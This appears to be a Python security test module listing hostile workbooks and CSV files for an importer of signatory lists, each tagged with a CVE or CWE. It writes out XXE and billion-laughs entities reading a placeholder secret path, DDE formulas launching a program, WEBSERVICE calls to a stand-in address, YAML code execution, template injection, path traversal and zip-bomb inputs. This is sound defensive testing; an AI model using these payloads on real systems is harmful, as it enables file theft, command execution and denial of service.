"""Tables that the public filled in: workbooks and CSV, imported as lists of signatories."""

from __future__ import annotations

import struct
from collections.abc import Callable, Sequence

from tests.attacks.attack import ANY, Attack, Place, zipped
from tests.attacks.word_files import overlapping
from tests.tables.samples import NS, REL, bare_xlsx, sheet_xml

__all__ = ["ATTACKS"]

_HEAD = "<row r='1'><c r='A1' t='inlineStr'><is><t>Organisation</t></is></c></row>"
_NAME = "<row r='2'><c r='A2' t='inlineStr'><is><t>River Aid</t></is></c></row>"
_SHEET = "xl/worksheets/sheet1.xml"
_OUTER = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@SECRET@">]>'
_LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)) + "]>"


def _book(name: str, advisory: str, sheet: str = _HEAD + _NAME, after: str = "", **parts: str | bytes) -> Attack:
    """Return an attack by a workbook; ``parts`` by their name with ``__`` for ``/`` and ``_xml`` for its ending."""

    def make(place: Place) -> Sequence[object]:
        named = {each.replace("__", "/").replace("_xml", ".xml"): place.filled(data) for each, data in parts.items()}
        place.kit()
        place.write("list.xlsx", bare_xlsx(place.filled(sheet_xml(sheet, after)).decode(), named))
        return ("import", "list.xlsx", "--into", "kit", "--yes")

    return Attack(name, advisory, make)


def _file(name: str, advisory: str, data: Callable[[], str | bytes], file: str = "list.csv", codes: frozenset[int] = ANY) -> Attack:
    def make(place: Place) -> Sequence[object]:
        place.kit()
        place.write(file, data())
        return ("import", file, "--into", "kit", "--yes")

    return Attack(name, advisory, make, codes)


def _cell(name: str, advisory: str, cell: str) -> Attack:
    return _file(name, advisory, lambda: f'Organisation,Note\n"{cell}","{cell}"\nRiver Aid,\n')


def _row(inner: str) -> str:
    return _HEAD + f"<row>{inner}</row>" + _NAME


_BOOK = f'<workbook {NS} xmlns:r="{REL}"><sheets>{{}}</sheets></workbook>'
_STRINGS = f"<sst {NS}><si><t>&e;</t></si></sst>"

_PARTS = {
    "_rels/.rels": f'<Relationships><Relationship Id="r1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": _BOOK.format('<sheet name="S" sheetId="1" r:id="r1"/>'),
    "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
}

_BOOKS = (
    _book("an entity in the sheet", "CVE-2017-5992", _HEAD, "", xl__worksheets__sheet1_xml=_OUTER + sheet_xml(_row("<c t='str'><v>&e;</v></c>"))),
    _book("an entity in the shared words", "CVE-2017-5992", _row("<c t='s'><v>0</v></c>"), "", xl__sharedStrings_xml=_OUTER + _STRINGS),
    _book("an entity in the workbook", "CVE-2017-5992", xl__workbook_xml=_OUTER + _BOOK.format('<sheet name="&e;" sheetId="1" r:id="r1"/>')),
    _book("entities of entities", "CVE-2014-3660", _HEAD, "", xl__worksheets__sheet1_xml=_LAUGHS + sheet_xml(_row("<c t='str'><v>&a11;</v></c>"))),
    _book("an inclusion of the machine", "CWE-611", _row('<c><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://@SECRET@"/></c>')),
    _book("a sheet as large as sheets can be", "CWE-770", _HEAD + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', '<dimension ref="A1:XFD1048576"/>'),
    _book("a column beyond columns", "CWE-770", _HEAD + '<row r="2"><c r="ZZZZZZZZ2"><v>1</v></c></row>'),
    _book("a row beyond rows", "CWE-770", _HEAD + '<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>'),
    _book("a row of no number", "CWE-20", _HEAD + '<row r="-5"><c r="A-5"><v>1</v></c></row><row r="x"/>'),
    _book("cells merged over all", "CWE-770", after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    _book("cells merged without end", "CWE-407", after="<mergeCells>" + '<mergeCell ref="A1:B2"/>' * 50_000 + "</mergeCells>"),
    _book("columns hidden without end", "CWE-770", '<cols><col min="1" max="999999999" hidden="1"/></cols>' + _HEAD),
    _book("shared words that are not there", "CWE-129", _row("<c t='s'><v>99999999999</v></c><c t='s'><v>-1</v></c><c t='s'><v>x</v></c>")),
    _book("a style that is not there", "CWE-129", _row("<c s='99999999'><v>1</v></c>")),
    _book("a day beyond days", "CWE-1284", _HEAD + "<row><c><v>1e308</v></c><c><v>nan</v></c><c><v>-99999999</v></c></row>"),
    _book("a number beyond digits", "CVE-2020-10735", _row(f"<c><v>{'9' * 20_000}</v></c>")),
    _book("a formula that runs a program", "CVE-2014-3524", _row("<c t='str'><f>cmd|'/c calc'!A0</f><v>=cmd|'/c calc'!A0</v></c>")),
    _book("a formula of the network", "CVE-2014-3524", _row('<c><f>WEBSERVICE("http://@ADDRESS@/")</f><v>x</v></c>')),
    _book("a workbook elsewhere", "CVE-2022-30190", xl__externalLinks__externalLink1_xml='<externalLink><externalBook r:id="r1"/></externalLink>'),
    _book("a sheet above the workbook", "CVE-2018-1002203", xl___rels__workbook_xml=b"", **{"xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Type="{REL}/worksheet" Target="../../../outside/secret.txt"/></Relationships>'}),
    _book("a sheet of the network", "CVE-2026-55073", **{"xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="r1" Type="{REL}/worksheet" Target="http://@ADDRESS@/a" TargetMode="External"/></Relationships>'}),
    _book("ten thousand sheets", "CWE-770", xl__workbook_xml=_BOOK.format("".join(f'<sheet name="s{n}" sheetId="{n}" r:id="r1"/>' for n in range(10_000)))),
    _book("a sheet whose name leads out", "CVE-2018-1002203", xl__workbook_xml=_BOOK.format('<sheet name="../../outside/x&#27;[31m" sheetId="1" r:id="r1"/>'.replace("&#27;", ""))),
    _book("rows in rows", "CWE-674", "<row>" * 50_000 + "</row>" * 50_000),
    _book("runs of words without end", "CWE-407", _row("<c t='inlineStr'><is>" + "<r><t>a</t></r>" * 50_000 + "</is></c>")),
    _book("no sheet", "CWE-755", xl__workbook_xml=_BOOK.format("")),
    _file("entries that lie over each other", "CVE-2024-0450", overlapping, "list.xlsx"),
    _file("a sheet that unpacks without end", "CVE-2019-9674", lambda: zipped({**_PARTS, _SHEET: " " * (400 << 20)}), "list.xlsx"),
    _file("an archive that is none", "CWE-755", lambda: b"PK\x03\x04" + bytes(300), "list.xlsx"),
    _file("a workbook with a password", "CWE-755", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), "list.xlsx"),
    _file("a workbook of bytes", "CWE-434", lambda: zipped({"xl/workbook.bin": struct.pack("<I", 5)}), "list.xlsb"),
)
_CSV = (
    _cell("a formula", "CVE-2014-3524", "=cmd|' /C calc'!A0"),
    _cell("a cell that is a formula of the network", "CVE-2014-3524", '=WEBSERVICE(""http://@ADDRESS@/"")'),
    _cell("a formula behind a tab", "CVE-2021-41270", "\t=1+1"),
    _cell("a formula of full width", "CWE-1236", "＝1+1"),
    _cell("a formula by a sign", "CWE-1236", "@SUM(1+1)"),
    _cell("markup in a name", "CVE-2026-21483", "<script>alert(1)</script>"),
    _cell("yaml in a name", "CVE-2020-14343", "a: !!python/object/apply:os.system [ls]"),
    _cell("an anchor in a name", "CVE-2023-47163", "&a [*a, *a]"),
    _cell("a name of many lines", "CWE-93", "River\n---\nid: other\n"),
    _cell("a name that colours the terminal", "CVE-2024-58251", "\x1b]0;owned\x07\x1b[31mRed"),
    _cell("a name that runs backwards", "CVE-2021-42574", "\u202eRiver\u2066"),
    _cell("an expression in a name", "CVE-2025-49136", "{{ env('SECRET_WORD') }} {% include '@SECRET@' %}"),
    _file("a quotation mark that never closes", "CWE-407", lambda: 'Organisation\n"' + "River Aid\n" * 100_000),
    _file("a cell larger than cells", "CWE-770", lambda: "Organisation\n" + "a" * 3_000_000),
    _file("columns without end", "CWE-770", lambda: "Organisation" + ",x" * 200_000 + "\nRiver Aid\n"),
    _file("rows without end", "CWE-770", lambda: "Organisation\n" + "\n" * 2_000_000),
    _file("marks of order without end", "CWE-407", lambda: b"\xef\xbb\xbf" * 100_000 + b"Organisation\nRiver Aid\n"),
    _file("two bytes a letter, cut off", "CVE-2023-26302", lambda: b"\xff\xfe" + "Organisation\nRiver Aid".encode("utf-16-le")[:-1]),
    _file("zero bytes", "CWE-158", lambda: b"Organisation\nRiver\0 Aid\n\0\0\0"),
    _file("bytes that are no letters", "CVE-2023-26302", lambda: bytes(range(256)) * 200),
    _file("names that are almost the same", "CWE-407", lambda: "Organisation\n" + "".join(f"River Aid of {n} and {n}\n" for n in range(200))),
    _file("a table that is a program", "CWE-434", lambda: b"\x7fELF" + bytes(2_000)),
)
ATTACKS = (*_BOOKS, *_CSV)
